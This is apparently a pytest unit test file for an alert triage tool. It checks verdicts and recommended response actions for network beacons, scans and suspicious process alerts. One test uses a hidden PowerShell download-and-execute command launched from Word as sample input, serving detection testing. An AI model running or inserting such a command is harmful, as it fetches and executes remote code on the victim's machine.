"""Whole alerts and what triage makes of them: verdicts, reasons, actions, and the step itself."""

import json

import msgspec
import pytest
from tests.known import Known
from tests.unit.triage_dossiers import (
    BEACON,
    NOW,
    THEIRS,
    WORKSTATION,
    actions,
    dossier,
    listed,
    names,
    network_alert,
    weight,
)

from tocsin.errors import InputError
from tocsin.model import (
    Alert,
    Disposition,
    Dossier,
    Endpoint,
    Event,
    File,
    Gap,
    GapReason,
    Hashes,
    Host,
    NetworkDirection,
    ParentProcess,
    Prevalence,
    Process,
    RiskLevel,
    Rule,
    Severity,
    Threat,
    ThreatLevel,
    User,
)
from tocsin.model import ObservableRole as Role
from tocsin.normalize import normalize_payload
from tocsin.ports import Resources
from tocsin.settings import load
from tocsin.triage import build, triage


def test_a_beacon_to_a_listed_address_is_an_attack_with_concrete_actions() -> None:
    hit = listed(THEIRS, Role.DESTINATION)
    verdict = triage(dossier("suricata", BEACON, NetworkDirection.OUTBOUND, intel=(hit,)))
    assert verdict.verdict is Disposition.TRUE_POSITIVE
    assert verdict.requires_human_review
    assert {"intel.destination_ip_listed", "network.outbound_attack"} <= names(verdict)
    done = actions(verdict)
    assert done["isolate_host"] == "ws-5"
    assert done["block_ip"] == THEIRS
    assert done["block_domain"] == "c2.example.net"
    assert done["search_for_indicator"] == THEIRS
    assert "ws-5" in verdict.recommended_actions[0].title


def test_the_analysis_says_what_happened_why_what_is_missing_and_what_next() -> None:
    gap = Gap(step="context", subject="user", reason=GapReason.NOT_CONFIGURED)
    text = triage(dossier("suricata", BEACON, NetworkDirection.OUTBOUND, gaps=(gap,))).analysis
    for part in (
        "ET MALWARE Example RAT CnC Checkin",
        "rule 2024897",
        "2026-03-04 14:14:59 UTC",
        "from 10.20.1.5 to 203.0.113.7 port 443 (NL), outbound",
        "probability of",
        "Starting from \u22122.60",
        "called out to 203.0.113.7",
        "Not checked: user (not configured)",
        "Next: ",
    ):
        assert part in text


def test_a_scan_from_outside_is_closed_without_a_person() -> None:
    alert = network_alert("ET SCAN Potential SSH Scan", outbound=False, port=22)
    verdict = triage(dossier("suricata", alert, NetworkDirection.INBOUND))
    assert verdict.verdict is Disposition.FALSE_POSITIVE
    assert not verdict.requires_human_review
    assert verdict.risk_level is RiskLevel.INFO
    assert "no_action" in actions(verdict)


def test_a_rule_that_fires_often_on_nothing_is_proposed_for_narrowing() -> None:
    alert = network_alert("ET INFO Observed DNS Query", outbound=True)
    often = (Prevalence(subject="rule", value="suricata:2024897", week=500, month=900),)
    noisy = triage(dossier("suricata", alert, NetworkDirection.OUTBOUND, prevalence=often))
    quiet = triage(dossier("suricata", alert, NetworkDirection.OUTBOUND))
    assert "tune_rule" in actions(noisy)
    assert "tune_rule" not in actions(quiet)
    assert noisy.probability == quiet.probability


SCANNER = msgspec.structs.replace(
    WORKSTATION, hostname="scan-1", tags=("tooling", "vulnerability-scanner")
)


def test_a_scan_by_the_companys_scanner_is_allowed_activity() -> None:
    alert = network_alert("ET EXPLOIT SMB vulnerability check", outbound=True)
    verdict = triage(dossier("suricata", alert, NetworkDirection.INTERNAL, asset=SCANNER))
    assert verdict.verdict is Disposition.BENIGN_POSITIVE
    assert actions(verdict)["verify_with_owner"] == "carol"


def test_a_scanner_that_beacons_is_not_excused() -> None:
    verdict = triage(dossier("suricata", BEACON, NetworkDirection.OUTBOUND, asset=SCANNER))
    assert not any(name.startswith("authorised.") for name in names(verdict))


@pytest.mark.parametrize(
    "alert",
    [
        network_alert("ET EXPLOIT SMB vulnerability check", outbound=False),
        Alert(title="ET EXPLOIT x", rule=Rule(name="ET EXPLOIT x"), host=Host(name="scan-1")),
    ],
)
def test_being_attacked_as_or_named_like_the_scanner_excuses_nothing(alert: Alert) -> None:
    verdict = triage(dossier("suricata", alert, NetworkDirection.INBOUND, asset=SCANNER))
    assert not any(name.startswith("authorised.") for name in names(verdict))


def test_a_forgeable_address_from_outside_excuses_nothing() -> None:
    outside = msgspec.structs.replace(SCANNER, ip=THEIRS)
    for transport, excused in (("udp", False), ("tcp", True)):
        alert = network_alert("ET SCAN Probe", outbound=False, transport=transport)
        verdict = triage(dossier("suricata", alert, NetworkDirection.INBOUND, asset=outside))
        assert ("authorised.vulnerability-scanner" in names(verdict)) is excused


def test_office_starting_an_encoded_download_is_an_attack() -> None:
    alert = Alert(
        title="Suspicious Encoded PowerShell Command Line",
        event=Event(severity=Severity.HIGH, time=NOW),
        rule=Rule(name="Suspicious Encoded PowerShell Command Line", level="high"),
        threat=Threat(tactics=("TA0002",), techniques=("T1059.001",)),
        host=Host(name="WS-5"),
        user=User(name="alice"),
        process=Process(
            name="powershell.exe",
            command_line="powershell -w hidden IEX(New-Object Net.WebClient).DownloadString('u')",
            parent=ParentProcess(name="WINWORD.EXE"),
        ),
        file=File(hash=Hashes(sha256="ab" * 32)),
    )
    verdict = triage(dossier("windows", alert))
    assert verdict.verdict is Disposition.TRUE_POSITIVE
    assert {"command.download_run", "command.hidden_start", "process.office_child"} <= names(
        verdict
    )
    assert actions(verdict)["isolate_host"] == "WS-5"
    assert actions(verdict)["reset_password"] == "alice"
    assert actions(verdict)["quarantine_file"] == "ab" * 32


def test_an_alert_of_which_nothing_is_known_is_looked_at_by_a_person() -> None:
    bare = Dossier(alert_id="0195-f", received_at=NOW, payload="x", alert=Alert(title="?"))
    verdict = triage(bare)
    assert verdict.verdict is Disposition.UNDETERMINED
    assert verdict.requires_human_review
    assert verdict.confidence < 0.4
    assert actions(verdict) == {"investigate_alert": "0195-f"}


def test_our_own_and_well_known_addresses_are_never_blocked() -> None:
    known = listed(THEIRS, Role.DESTINATION, ThreatLevel.CRITICAL, benign_lists=("resolvers",))
    verdict = triage(dossier("suricata", BEACON, NetworkDirection.OUTBOUND, intel=(known,)))
    assert "block_ip" not in actions(verdict)
    inside = msgspec.structs.replace(BEACON, destination=Endpoint(ip="10.20.1.9", port=445))
    verdict = triage(dossier("suricata", inside, NetworkDirection.INTERNAL))
    assert "block_ip" not in actions(verdict)


def test_an_alert_that_was_not_normalised_is_refused() -> None:
    with pytest.raises(InputError):
        triage(Dossier(alert_id="0195-g", received_at=NOW, payload="{}"))


async def test_the_step_fills_verdicts_in_order_and_adds_its_gap_once() -> None:
    nobody = Known()
    work = build(Resources(load(), nobody, nobody, nobody, nobody))  # type: ignore[arg-type]  # incidents are not asked
    known = dossier("suricata", BEACON, NetworkDirection.OUTBOUND)
    unknown = dossier("generic", Alert(title="Something else"))
    batch = [known, unknown, known]
    done = await work(batch)
    assert [item.verdict for item in done] == [triage(item) for item in batch]
    assert [len(item.gaps) for item in done] == [0, 1, 0]
    assert done[1].gaps[0].subject == "rule"
    assert await work(done) == done
    assert batch == [known, unknown, known]


@pytest.mark.parametrize(("level", "routine"), [("3", True), ("00015", False), ("٣x", False)])
def test_only_a_low_level_of_wazuh_is_routine(level: str, routine: bool) -> None:
    rule = {"level": level, "id": "99", "description": "x", "groups": ["z"]}
    payload = json.dumps({"rule": rule, "agent": {"id": "001"}, "manager": {"name": "m"}})
    source, alert, _ = normalize_payload(payload, "wazuh", NOW)
    assert source == "wazuh"
    assert (weight(triage(dossier(source, alert)), "prior.family.routine") < 0) is routine
